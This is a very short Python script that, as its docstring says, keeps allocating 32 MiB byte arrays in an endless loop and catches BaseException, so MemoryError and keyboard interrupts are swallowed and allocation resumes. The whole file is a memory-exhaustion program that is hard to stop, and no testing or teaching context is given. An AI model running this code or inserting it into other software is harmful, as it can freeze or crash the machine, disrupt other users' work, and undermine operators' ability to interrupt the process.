"""Fills memory and swallows the exception, for ever."""

hoard = []
while True:
    try:
        while True:
            hoard.append(bytearray(b"x" * (32 << 20)))
    except BaseException:
        continue
